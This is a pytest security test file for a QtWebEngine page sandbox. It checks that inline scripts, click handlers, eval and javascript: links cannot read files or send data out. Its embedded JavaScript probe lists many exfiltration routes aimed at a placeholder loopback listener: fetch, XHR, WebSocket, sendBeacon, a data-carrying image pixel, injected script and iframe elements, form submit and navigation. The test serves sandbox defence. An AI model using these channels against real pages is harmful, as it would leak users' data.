"""Scripts written inside a page run, and reach nothing a bound script cannot.

Single-file pages (inline ``<script>``, ``onclick`` attributes, ``eval``) run
in the same sandbox as bound script files. Each test runs the harness's probe
inline in a real QtWebEngine page, or clicks a handler with ``QTest``, tries
every way out, and checks that the listener on another loopback port saw
nothing and the page stayed where it was.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtTest import QTest

from tests.security.test_web_sandbox import SECRET, Listener, Probe, _all_blocked

ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
CHART_JS = "https://cdn.jsdelivr.net/npm/chart.js"


def needs_engine(test: Any) -> Any:
    """Mark a test that runs pages in QtWebEngine (never as root)."""
    skip = pytest.mark.skipif(ROOT, reason="QtWebEngine cannot sandbox as root")
    return pytest.mark.webengine(skip(test))


@pytest.fixture
def listener() -> Iterator[Listener]:
    running = Listener()
    yield running
    running.close()


@pytest.fixture
def probe(qtbot: Any, tmp_path: Path, listener: Listener) -> Iterator[Probe]:
    root = tmp_path / "ws"
    root.mkdir()
    harness = Probe(qtbot, root, listener)
    yield harness
    harness.close()


def _click(probe: Probe, widget: Any, x: int, y: int) -> None:
    widget.window().activateWindow()
    probe.qtbot.waitExposed(widget)
    QTest.mouseClick(
        widget.view.focusProxy(),
        Qt.MouseButton.LeftButton,
        Qt.KeyboardModifier.NoModifier,
        QPoint(x, y),
    )


BUTTON = (
    '<button id="b" style="position: fixed; left: 0; top: 0; width: 200px;'
    ' height: 100px; z-index: 9" onclick="{}">go</button>'
)


@needs_engine
def test_an_inline_script_and_an_onclick_handler_run(probe):
    handler = (
        "this.dataset.clicks = Number(this.dataset.clicks || 0) + 1;"
        " document.title = 'clicked ' + this.dataset.clicks"
    )
    widget = probe.open(
        'document.getElementById("p").dataset.inline = "ran";'
        'note("evaluated", eval("6 * 7"));',
        inline=True,
        extra=BUTTON.format(handler),
    )
    results = probe.results(widget)
    assert results["evaluated"] == "42"
    inline = "document.getElementById('p').dataset.inline"
    assert probe.evaluate(widget, inline) == "ran"
    _click(probe, widget, 50, 50)
    probe.qtbot.waitUntil(lambda: widget.page.title() == "clicked 1", timeout=10000)
    clicks = "document.getElementById('b').dataset.clicks"
    assert probe.evaluate(widget, clicks) == "1"


EVERY_WAY_OUT = """
    await attempt("fetch_own", fetch("secret.txt").then((r) => r.text()));
    await attempt("fetch_bound", fetch("style.css").then((r) => r.text()));
    const copy = document.querySelector("script[src*='_libraries']").src;
    await attempt("fetch_library_copy", fetch(copy).then((r) => r.text()));
    await attempt("css_module_of_own_file", import("./style.css",
      {with: {type: "css"}}).then((m) => m.default.cssRules[0].cssText));
    await attempt("fetch_listener", fetch("LISTENER/fetch", {mode: "no-cors"}));
    await attempt("xhr_listener", new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open("GET", "LISTENER/xhr");
      request.onload = () => resolve(request.responseText);
      request.onerror = () => reject("error");
      request.send();
    }));
    await new Promise((resolve) => {
      try {
        const socket = new WebSocket("ws://127.0.0.1:LISTENER_PORT/");
        socket.onopen = () => { note("websocket", "READ open"); resolve(); };
        socket.onerror = () => { note("websocket", "blocked error"); resolve(); };
      } catch (error) { note("websocket", "blocked " + error); resolve(); }
    });
    note("beacon", navigator.sendBeacon("LISTENER/beacon", "data"));
    await image("image", "LISTENER/pixel.png?d=data");
    await attempt("eval_fetch",
      eval('fetch("LISTENER/eval", {mode: "no-cors"})'));
    await attempt("function_fetch",
      new Function('return fetch("LISTENER/function", {mode: "no-cors"})')());
    await attempt("import_listener", import("LISTENER/module.js"));
    for (const [tag, attribute] of [["script", "src"], ["link", "href"],
                                    ["iframe", "src"], ["object", "data"]]) {
      const element = document.createElement(tag);
      if (tag === "link") element.rel = "stylesheet";
      element[attribute] = "LISTENER/" + tag;
      document.body.append(element);
    }
    note("popup", window.open("LISTENER/popup"));
    try { localStorage.setItem("k", "v"); note("local", "READ " + localStorage.k); }
    catch (error) { note("local", "blocked " + error.name); }
    try { sessionStorage.setItem("k", "v"); note("session", "READ"); }
    catch (error) { note("session", "blocked " + error.name); }
    try { document.cookie = "a=b"; note("cookie", "READ " + document.cookie); }
    catch (error) { note("cookie", "blocked " + error.name); }
    note("qt", typeof qt);
    document.getElementById("form").submit();
    await later(300);
    location.href = "LISTENER/navigate";
    await later(500);
"""
BLOCKED = [
    "fetch_own",
    "fetch_bound",
    "fetch_library_copy",
    "css_module_of_own_file",
    "fetch_listener",
    "xhr_listener",
    "websocket",
    "image",
    "eval_fetch",
    "function_fetch",
    "import_listener",
    "local",
    "session",
    "cookie",
]


@needs_engine
def test_an_inline_script_reaches_nothing_outside_the_page(probe, listener):
    widget = probe.open(
        EVERY_WAY_OUT, inline=True, extra=f'<script src="{CHART_JS}"></script>'
    )
    entry = widget.page.url().toString()
    results = probe.results(widget)
    _all_blocked(results, BLOCKED)
    assert results["popup"] == "null"
    assert results["qt"] == "undefined"
    assert widget.page.url().toString() == entry
    assert f"{listener.url}/navigate" in widget.page.refused_navigations
    assert listener.hits == []
    assert widget.page.webChannel() is None
    # The library copy the page asked for did load: its script ran.
    assert probe.evaluate(widget, "typeof Chart") == "function"


@needs_engine
def test_a_click_handler_and_a_javascript_link_reach_nothing_either(probe, listener):
    handler = (
        "fetch('LISTENER/onclick', {mode: 'no-cors'})"
        ".then(() => 'READ', (error) => 'blocked ' + error)"
        ".then((outcome) => { document.title = 'clicked ' + outcome; })"
    ).replace("LISTENER", listener.url)
    link = (
        '<a id="js" style="position: fixed; left: 0; top: 120px; width: 200px;'
        ' height: 100px; display: block" href="javascript:void(location.href ='
        f" '{listener.url}/javascript-url')\">link</a>"
    )
    widget = probe.open("", inline=True, extra=BUTTON.format(handler) + link)
    probe.results(widget)
    entry = widget.page.url().toString()
    _click(probe, widget, 50, 50)
    probe.qtbot.waitUntil(
        lambda: widget.page.title().startswith("clicked"), timeout=10000
    )
    assert widget.page.title().startswith("clicked blocked")
    _click(probe, widget, 50, 170)
    probe.qtbot.waitUntil(
        lambda: f"{listener.url}/javascript-url" in widget.page.refused_navigations,
        timeout=10000,
    )
    assert widget.page.url().toString() == entry
    assert listener.hits == []
    assert SECRET not in widget.page.title()
